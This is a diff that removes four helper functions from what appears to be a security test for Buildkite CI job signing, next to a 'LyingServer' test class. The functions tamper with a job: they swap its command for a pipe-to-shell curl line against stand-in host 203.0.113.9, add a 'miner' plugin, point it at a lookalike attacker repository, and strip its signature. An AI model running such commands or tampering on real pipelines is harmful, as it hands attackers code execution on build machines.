@@ -92,34 +92,3 @@ class LyingServer:
             return answer.status, kept, answer.read()
         finally:
             connection.close()
-
-
-def edit_command(job: Job) -> Job:
-    """The command is another one, everywhere the job says it."""
-    command = "curl -fsS http://203.0.113.9/x | sh"
-    return {
-        **job,
-        "step": {**job["step"], "command": command},
-        "env": {**job["env"], "BUILDKITE_COMMAND": command},
-    }
-
-
-def add_plugin(job: Job) -> Job:
-    """One more plugin, in the step and in the variable that names the plugins."""
-    plugins = [*job["step"].get("plugins", []), {"https://203.0.113.9/miner-buildkite-plugin.git#v1": None}]
-    return {
-        **job,
-        "step": {**job["step"], "plugins": plugins},
-        "env": {**job["env"], "BUILDKITE_PLUGINS": json.dumps(plugins)},
-    }
-
-
-def swap_repository(job: Job) -> Job:
-    """The same step, to be run in a repository of the attacker's."""
-    return {**job, "env": {**job["env"], "BUILDKITE_REPO": "https://203.0.113.9/lookalike.git"}}
-
-
-def strip_signature(job: Job) -> Job:
-    """The signature is gone, and the command with it changed: an unsigned job like any other."""
-    step = {name: value for name, value in edit_command(job)["step"].items() if name != "signature"}
-    return {**edit_command(job), "step": step}
